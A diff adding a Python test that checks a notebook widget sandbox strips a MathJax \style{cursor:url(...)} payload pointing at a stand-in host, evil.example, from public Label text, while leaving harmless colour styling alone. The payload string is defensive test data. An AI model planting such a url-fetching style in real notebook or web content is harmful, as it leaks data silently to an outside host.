@@ -351,3 +351,18 @@ def test_private_widget_text_holds_no_math_that_fetches() -> None:
     # plain math stays as it is once private
     plain = w.from_sandbox(open_msg("mt3", state("LabelModel", value="$x^2$")), [], private=True)
     assert plain.content["data"]["state"]["value"] == "$x^2$"
+
+
+def test_public_widget_text_holds_no_math_style_that_could_wait_to_fetch() -> None:
+    """A public Label's ``\\style{cursor:url(...)}``, in a view hidden by its
+    layout, would fetch once a later private output's CSS showed it (helper
+    67 measured it for outputs); kept as written without a fetch."""
+    cursor = "$\\style{cursor:url(//evil.example/bit3),auto}{x}$"
+    st = state("LabelModel", value="total " + cursor, description="rows " + cursor)
+    w = WidgetComms()
+    public = w.from_sandbox(open_msg("ms1", st), [], private=False).content["data"]["state"]
+    assert "\\style" not in json.dumps(public) and public["value"].startswith("total $\\mathrm{style}")
+    later = w.from_sandbox(update_msg("ms1", {"value": "$" + cursor}), [], private=False)
+    assert "\\style" not in later.content["data"]["state"]["value"]
+    coloured = w.from_sandbox(open_msg("ms2", state("LabelModel", value="$\\style{color:red}{x}$")), [], private=False)
+    assert coloured.content["data"]["state"]["value"] == "$\\style{color:red}{x}$"
